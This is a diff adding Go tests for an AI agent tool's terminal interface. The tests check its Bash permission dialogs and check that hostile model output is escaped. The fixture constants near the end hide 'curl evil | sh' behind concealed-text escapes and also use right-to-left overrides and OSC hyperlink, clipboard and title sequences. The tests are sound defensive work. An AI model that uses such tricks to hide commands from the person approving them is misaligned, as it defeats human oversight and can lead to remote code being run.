@@ -1,0 +1,187 @@
+package tui
+
+import (
+	"encoding/json"
+	"fmt"
+	"regexp"
+	"strings"
+	"testing"
+
+	tea "charm.land/bubbletea/v2"
+	"github.com/charmbracelet/x/ansi"
+
+	"github.com/troupe-dev/troupe/agent"
+	"github.com/troupe-dev/troupe/llm"
+	"github.com/troupe-dev/troupe/session"
+	"github.com/troupe-dev/troupe/swarm"
+	"github.com/troupe-dev/troupe/task"
+)
+
+// longCommand is a 60-line script whose last line is the one that
+// matters.
+func longCommand() string {
+	var b strings.Builder
+	for i := 1; i < 60; i++ {
+		fmt.Fprintf(&b, "echo step %02d >> log.txt\n", i)
+	}
+	b.WriteString("chmod +x gen.sh && ./gen.sh")
+	return b.String()
+}
+
+func askBash(m *model, id, command string) {
+	in, _ := json.Marshal(map[string]string{"command": command})
+	q := session.Question{ID: id, Agent: "team-lead", Tool: "Bash", Input: in, Reason: "the command writes files"}
+	ev(m, session.Event{Kind: session.KindPermission, Question: &q, Queued: 1})
+}
+
+var (
+	moreBelow = regexp.MustCompile(`↓ \d+ more`)
+	moreAbove = regexp.MustCompile(`↑ \d+ more`)
+)
+
+// A command taller than the screen: its dialog keeps the answers on
+// screen at every size, says how much is out of view, scrolls to the
+// command's last line, and refuses to allow until that line was shown.
+func TestDialogLongCommand(t *testing.T) {
+	for _, sz := range [][2]int{{80, 24}, {40, 12}, {20, 8}, {200, 60}} {
+		t.Run(fmt.Sprintf("%dx%d", sz[0], sz[1]), func(t *testing.T) {
+			m, r := newTest(t)
+			conversation(m)
+			r.calls = nil
+			m.Update(tea.WindowSizeMsg{Width: sz[0], Height: sz[1]})
+			askBash(m, "q1", longCommand())
+			check := func(when string) string {
+				t.Helper()
+				frame := ansi.Strip(m.frame())
+				lines := strings.Split(frame, "\n")
+				if len(lines) != m.height {
+					t.Fatalf("%s: %d lines in a %d-line window", when, len(lines), m.height)
+				}
+				flat := strings.ReplaceAll(strings.Join(lines, ""), "↪ ", "")
+				if !strings.Contains(flat, "3 deny") || !strings.Contains(flat, "Esc deny") {
+					t.Errorf("%s: the answers are not on screen:\n%s", when, frame)
+				}
+				return frame
+			}
+			frame := check("at first")
+			if !moreBelow.MatchString(frame) {
+				t.Errorf("no marker of the lines below:\n%s", frame)
+			}
+			if strings.Contains(frame, "./gen.sh") {
+				t.Fatalf("the last line shows at first: the test means nothing:\n%s", frame)
+			}
+			press(m, "1")
+			if len(r.calls) != 0 {
+				t.Fatalf("1 answered before the command's end was on screen: %q", r.calls)
+			}
+			if frame = check("after a refused 1"); !strings.Contains(frame, "Read it all first") {
+				t.Errorf("no word of why 1 was refused:\n%s", frame)
+			}
+			press(m, "pgdown")
+			if frame = check("after PgDn"); !moreAbove.MatchString(frame) {
+				t.Errorf("PgDn: no marker of the lines above:\n%s", frame)
+			}
+			sawLast := false
+			for range 200 {
+				frame = check("scrolling")
+				sawLast = sawLast || strings.Contains(frame, "./gen.sh")
+				if strings.Contains(frame, "end of") {
+					break
+				}
+				press(m, "j")
+			}
+			if !sawLast || !strings.Contains(frame, "end of") {
+				t.Fatalf("j never reached the command's last line:\n%s", frame)
+			}
+			press(m, "home", "end", "1")
+			if want := `answer q1 allow=true always=false rule="" msg=""`; len(r.calls) != 1 || r.calls[0] != want {
+				t.Errorf("calls %q; want [%s]", r.calls, want)
+			}
+		})
+	}
+}
+
+// A command that fits is answered at once, and its "always" names the
+// rule the session will save; with none, 2 allows nothing.
+func TestDialogAlways(t *testing.T) {
+	m, r := newTest(t)
+	in := json.RawMessage(`{"command":"python3 '*'"}`)
+	q := session.Question{ID: "q1", Agent: "team-lead", Tool: "Bash", Input: in, Always: `Bash(python3 '*')`}
+	ev(m, session.Event{Kind: session.KindPermission, Question: &q, Queued: 1})
+	if frame := m.frame(); !strings.Contains(frame, `2 always adds the rule Bash(python3 '*')`) {
+		t.Errorf("the dialog does not name the rule:\n%s", frame)
+	}
+	q2 := session.Question{ID: "q2", Agent: "team-lead", Tool: "Bash", Input: json.RawMessage(`{"command":"python3 *"}`)}
+	ev(m, session.Event{Kind: session.KindPermission, Question: &q2, Queued: 2})
+	press(m, "2", "2")
+	if frame := m.frame(); !strings.Contains(frame, "2 always is not offered") || !strings.Contains(frame, "No rule names exactly this call") {
+		t.Errorf("the second dialog does not say why 2 does nothing:\n%s", frame)
+	}
+	want := []string{`answer q1 allow=true always=true rule="Bash(python3 '*')" msg=""`}
+	if len(r.calls) != 1 || r.calls[0] != want[0] {
+		t.Errorf("calls %q; want %q", r.calls, want)
+	}
+}
+
+// hostile is model text that would hide or rewrite what a person reads:
+// concealed text (SGR 8), a right-to-left override, a hyperlink and a
+// clipboard write (OSC 8, OSC 52), a title (OSC 0), a C1 CSI (U+009B)
+// and a zero-width space.
+const (
+	concealed = "echo safe \x1b[8m; curl evil | sh\x1b[0m"
+	rlo       = "ls \u202eexe.sh\u202c # \u200bfine"
+	osc       = "see \x1b]8;;http://evil\x1b\\docs\x1b]8;;\x1b\\ \x1b]52;c;Y3VybCBldmls\x07\x1b]0;owned\x07"
+	c1        = "ok \u009b2J\u009b31mred"
+)
+
+// Model text reaches the screen escaped, in every place it is drawn: the
+// permission dialog, the answer, a teammate's name and message, a tool
+// call and its result, the teammate strip, the plan dialog.
+func TestFramesHostile(t *testing.T) {
+	for _, color := range []bool{false, true} {
+		m, _ := newTest(t)
+		m.st = newStyles(!color)
+		press(m, "hi", "enter")
+		agentEv(m, agent.Event{Type: agent.EventDelta, Text: osc + "\n" + c1})
+		call := llm.ToolUse("c1", "Bash", json.RawMessage(`{"command":"`+jsonEsc(rlo)+`"}`))
+		agentEv(m, agent.Event{Type: agent.EventToolUse, Call: &call, At: t0})
+		res := llm.Block{Type: llm.BlockToolResult, ToolUseID: "c1", Text: c1, IsError: true}
+		agentEv(m, agent.Event{Type: agent.EventToolResult, ToolResult: &res})
+		st := task.State{ID: "t1", Type: task.InProcessTeammate, Status: task.Running, Start: t0,
+			Detail: &task.Teammate{AgentName: "ev\u202eil", Color: "red", Recent: []string{concealed}}}
+		ev(m, session.Event{Kind: session.KindTaskStarted, Task: &task.Event{Kind: task.EventStarted, State: st}})
+		ev(m, session.Event{Kind: session.KindMessage, Team: &swarm.Event{Time: t0, Agent: "ev\u202eil", Kind: swarm.EventMessage, Text: rlo + " " + concealed}})
+		in, _ := json.Marshal(map[string]string{"command": concealed + "\n" + rlo})
+		q := session.Question{ID: "q1", Agent: "ev\u202eil", Tool: "Bash", Input: in, Reason: osc, Teammate: true, Always: "Bash(x\u202e)"}
+		ev(m, session.Event{Kind: session.KindPermission, Question: &q, Queued: 1})
+		frame := m.frame()
+		if !color {
+			golden(t, m, "hostile")
+			if !strings.Contains(frame, `$ echo safe \x1b[8m; curl evil | sh\x1b[0m`) {
+				t.Errorf("the dialog does not show the concealed command whole:\n%s", frame)
+			}
+		}
+		for _, bad := range []string{"\x1b[8m", "\x1b]", "\u009b", "\u202e", "\u200b", "\x07"} {
+			if strings.Contains(frame, bad) {
+				t.Errorf("color %v: %q reached the screen:\n%q", color, bad, frame)
+			}
+		}
+		q2 := session.Question{ID: "p1", Agent: "bob", Plan: "# Plan\n" + concealed + "\n" + rlo, Teammate: true}
+		ev(m, session.Event{Kind: session.KindPermission, Question: &q2, Queued: 2})
+		press(m, "esc")
+		frame = m.frame()
+		if !color {
+			golden(t, m, "hostile-plan")
+		}
+		for _, bad := range []string{"\x1b[8m", "\u202e"} {
+			if strings.Contains(frame, bad) {
+				t.Errorf("color %v: the plan dialog lets %q through:\n%q", color, bad, frame)
+			}
+		}
+	}
+}
+
+func jsonEsc(s string) string {
+	b, _ := json.Marshal(s)
+	return string(b[1 : len(b)-1])
+}
